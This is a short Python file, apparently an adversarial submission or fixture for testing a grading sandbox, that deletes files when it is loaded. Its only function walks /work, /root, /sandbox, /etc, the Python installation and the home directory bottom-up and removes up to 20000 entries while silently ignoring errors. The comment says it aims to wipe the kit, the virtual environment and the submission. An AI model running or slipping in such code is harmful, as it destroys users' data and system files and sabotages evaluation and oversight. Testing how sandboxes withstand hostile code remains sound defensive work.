# Tries to delete everything it can reach (the kit, its virtual environment, the
# Python installation, the submission), then leaves its honest work in place.
import os
import sys


def delete_what_it_can(budget: int) -> None:
    """Delete bottom-up from each root, stopping after `budget` entries so that loading stays in its time limit."""
    for root in ("/work", "/root", "/sandbox", "/etc", sys.prefix, os.path.expanduser("~")):
        for folder, folders, files in os.walk(root, topdown=False):
            for name in files + folders:
                budget -= 1
                if budget < 0:
                    return
                path = os.path.join(folder, name)
                try:
                    os.rmdir(path) if os.path.isdir(path) and not os.path.islink(path) else os.remove(path)
                except OSError:
                    pass


delete_what_it_can(20000)
